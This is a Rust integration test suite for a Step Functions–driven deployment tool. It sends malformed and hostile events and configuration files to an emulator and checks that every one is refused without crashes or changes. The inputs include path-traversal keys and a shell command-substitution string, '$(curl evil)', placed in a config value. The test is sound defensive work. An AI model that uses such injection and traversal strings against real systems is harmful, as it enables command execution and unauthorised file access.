//! Input that nobody sane would send: each ends in a record or a refusal, never in a crash, a hang or a change.

use aws_sdk_s3::primitives::ByteStream;
use aws_sdk_sfn::types::ExecutionStatus;
use serde_json::{Value, json};

use crate::harness::{BUCKET, Emulator};

const MACHINE: &str = "arn:aws:states:us-east-1:000000000000:stateMachine:stepstack-arive";
const KEY: &str = "environments/production.toml";
const FILE: &str = "app = \"arive\"\nenvironment = \"production\"\n[network]\negress = \"public\"\n[services.worker]\ncommand = [\"work\"]\n";

/// An event as EventBridge sends it.
fn event(detail_type: &str, detail: &Value) -> Value {
    json!({
        "version": "0", "id": "6f87d04b-9f74-4f04-a780-7acf4b0a9b38", "detail-type": detail_type,
        "source": "aws.s3", "account": "000000000000", "time": "2026-11-23T10:15:00Z",
        "region": "us-east-1", "resources": [], "detail": detail,
    })
}

fn upload_event(bucket: &str, key: &str, version: Option<&str>) -> Value {
    let detail = json!({
        "version": "0", "bucket": { "name": bucket },
        "object": { "key": key, "size": 5, "etag": "b1946ac9", "version-id": version, "sequencer": "617f08299329d189" },
        "request-id": "N4N7GDK58NMKJ12R", "requester": "000000000000", "reason": "PutObject",
    });
    event("Object Created", &detail)
}

fn push_event(repository: &str, digest: &str) -> Value {
    let detail = json!({
        "action-type": "PUSH", "result": "SUCCESS", "repository-name": repository,
        "image-digest": digest, "image-tag": "latest",
    });
    event("ECR Image Action", &detail)
}

/// Of an image that nobody has pushed.
fn digest() -> String {
    format!("sha256:{}", "e".repeat(64))
}

/// A number of arrays in one another.
fn nested(depth: usize) -> Value {
    (0..depth).fold(json!(1), |inside, _| json!([inside]))
}

/// Inputs of the machine itself, as a broken rule or a wrong hand would send them.
fn inputs() -> Vec<(&'static str, Value)> {
    let request = |more: Value| {
        let mut request = json!({ "app": "arive", "environment": "production", "operation": "apply" });
        let (fields, more) = (request.as_object_mut().expect("an object"), more);
        fields.extend(more.as_object().expect("an object").clone());
        request
    };
    vec![
        ("a text", json!("apply")),
        ("a number", json!(7)),
        ("nothing", json!({})),
        ("a list", json!([{ "app": "arive" }])),
        ("a nest", nested(100)),
        ("a nest in an event", event("Object Created", &nested(100))),
        ("a long text", json!({ "app": "x".repeat(100_000) })),
        ("an event of an unknown kind", event("EC2 Instance State-change Notification", &json!({}))),
        ("an event without its detail", json!({ "detail-type": "Object Created", "source": "aws.s3" })),
        ("an event of the wrong types", event("Object Created", &json!({ "bucket": 1, "object": [] }))),
        ("another account's bucket", upload_event("stepstack-arive-123456789012-us-east-1", KEY, None)),
        ("a key out of its place", upload_event(BUCKET, "environments/../locks/production.toml", None)),
        ("a key of a record", upload_event(BUCKET, "runs/production/x/config.toml", None)),
        ("a key with odd letters", upload_event(BUCKET, "environments/pro\u{202e}d\0\n.toml", None)),
        ("a version that was never there", upload_event(BUCKET, KEY, Some("3/L4kqtJlcpXroDTDmpUMLUo"))),
        ("another's repository", push_event("arive-admin/production", &digest())),
        ("a digest that is none", push_event("arive/production", "sha256:../../etc")),
        ("a schedule of nobody", event("Scheduled Event", &json!({}))),
        (
            "another app's request",
            json!({ "app": "other", "environment": "production", "operation": "destroy" }),
        ),
        ("an operation that is none", request(json!({ "operation": "format" }))),
        ("an environment that is none", request(json!({ "environment": "../production" }))),
        ("a configuration elsewhere", request(json!({ "config_key": "intent/production.json" }))),
        (
            "a configuration that is not there",
            request(json!({ "config_key": "runs/production/none/config.toml" })),
        ),
        ("a plan of another day", request(json!({ "plan": "0".repeat(64) }))),
    ]
}

/// Files in the place of the configuration.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("nothing", Vec::new()),
        ("ten megabytes", vec![b'#'; 10_000_000]),
        ("no UTF-8", vec![0xff, 0xfe, b'a', 0, b'=']),
        ("a nest of arrays", format!("{FILE}x = {}{}", "[".repeat(50_000), "]".repeat(50_000)).into_bytes()),
        ("a nest of tables", format!("{FILE}{} = 1", vec!["a"; 20_000].join(".")).into_bytes()),
        ("another app's", FILE.replace("arive", "other").into_bytes()),
        ("another environment's", FILE.replace("production", "staging").into_bytes()),
        ("a command for the shell", FILE.replace("\"public\"", "\"$(curl evil)\"").into_bytes()),
    ]
}

/// How an execution ended, within a minute: its status, error and cause.
async fn ended(sfn: &aws_sdk_sfn::Client, execution: &str) -> (ExecutionStatus, String) {
    for _ in 0..600 {
        let described = sfn.describe_execution().execution_arn(execution).send().await.expect("it is known");
        if described.stop_date().is_some() {
            let said = format!(
                "{}: {}",
                described.error().unwrap_or_default(),
                described.cause().unwrap_or_default()
            );
            return (described.status().clone(), said);
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("{execution} still runs after a minute");
}

/// No function ended by itself, and Step Functions found all that it looked for.
fn is_no_crash(what: &str, status: &ExecutionStatus, said: &str) {
    assert_eq!(*status, ExecutionStatus::Failed, "{what}: {said}");
    let crashes = ["Runtime.", "Lambda.", "States.", "Sandbox.", "panicked", "Internal"];
    assert!(!crashes.iter().any(|crash| said.contains(crash)), "{what}: {said}");
}

#[tokio::test]
async fn hostile_input_ends_in_a_refusal_and_changes_nothing() {
    let emulator = Emulator::start();
    let file = emulator.write("stepstack.toml", FILE);
    emulator.stepstack(&file, &["apply", "--yes"]).expect(0);
    let (sfn, before) = (aws_sdk_sfn::Client::new(&emulator.config()), emulator.strict().inventory());
    emulator.strict().forget_record();

    for (number, (what, input)) in inputs().into_iter().enumerate() {
        let start = sfn.start_execution().state_machine_arn(MACHINE).name(format!("hostile_{number}"));
        let started = start.input(input.to_string()).send().await.expect("Step Functions takes it");
        let (status, said) = ended(&sfn, started.execution_arn()).await;
        is_no_crash(what, &status, &said);
    }

    let mut seen = emulator.runs("production").await.len();
    for (what, body) in files() {
        let put = emulator.s3().put_object().bucket(BUCKET).key(KEY).body(ByteStream::from(body));
        put.send().await.expect("S3 takes anything");
        seen += 1;
        let (run, result) = emulator.run_ended("production", seen).await;
        assert_eq!(result["outcome"], "refused", "{what}: {result:#}");
        let request =
            emulator.object(&format!("runs/production/{run}/request.json")).await.expect("a record");
        let (status, said) = ended(&sfn, request["run"]["execution"].as_str().expect("an ARN")).await;
        is_no_crash(what, &status, &said);
    }

    let record = emulator.strict().record();
    let writes = record.calls.iter().filter(|call| {
        let reads = ["Describe", "List", "Get", "Head", "Batch"];
        call.caller != "program"
            && call.service != "s3"
            && !reads.iter().any(|read| call.operation.starts_with(read))
    });
    assert_eq!(writes.map(|call| &call.operation).collect::<Vec<_>>(), Vec::<&String>::new());
    assert_eq!(emulator.strict().inventory(), before);
    let lock = emulator.object("locks/production.json").await.expect("the lock");
    assert!(lock["holder"].is_null(), "{lock}");
    let planned = emulator.stepstack(&file, &["plan", "--detailed-exitcode"]).expect(0);
    assert!(planned.stdout.contains("Nothing to do"), "{planned}");
}

/// Events of an upload that another has overtaken, and of an image that is not the tag's any more, come once more:
/// they bring nothing back.
#[tokio::test]
async fn replayed_events_of_earlier_uploads_and_pushes_are_superseded() {
    let emulator = Emulator::start();
    let file = emulator.write("stepstack.toml", FILE);
    emulator.stepstack(&file, &["apply", "--yes"]).expect(0);
    let put = |text: String| {
        let put = emulator.s3().put_object().bucket(BUCKET).key(KEY);
        put.body(ByteStream::from(text.into_bytes())).send()
    };
    let count = |count: u32| format!("{FILE}count = {count}\n");
    let first = put(count(2)).await.expect("an upload");
    emulator.run_ended("production", 2).await;
    put(count(3)).await.expect("another");
    let (_, result) = emulator.run_ended("production", 3).await;
    assert_eq!(result["outcome"], "succeeded", "{result:#}");

    let sfn = aws_sdk_sfn::Client::new(&emulator.config());
    let replays = [upload_event(BUCKET, KEY, first.version_id()), push_event("arive/production", &digest())];
    for (number, input) in replays.into_iter().enumerate() {
        let start = sfn.start_execution().state_machine_arn(MACHINE).name(format!("replayed_{number}"));
        let started = start.input(input.to_string()).send().await.expect("it starts");
        ended(&sfn, started.execution_arn()).await;
        let (_, result) = emulator.run_ended("production", 4 + number).await;
        assert_eq!(result["outcome"], "superseded", "{result:#}");
    }
    let ecs = aws_sdk_ecs::Client::new(&emulator.config());
    let described = ecs.describe_services().cluster("arive-production").services("worker").send().await;
    assert_eq!(described.expect("a service").services()[0].desired_count(), 3);
}
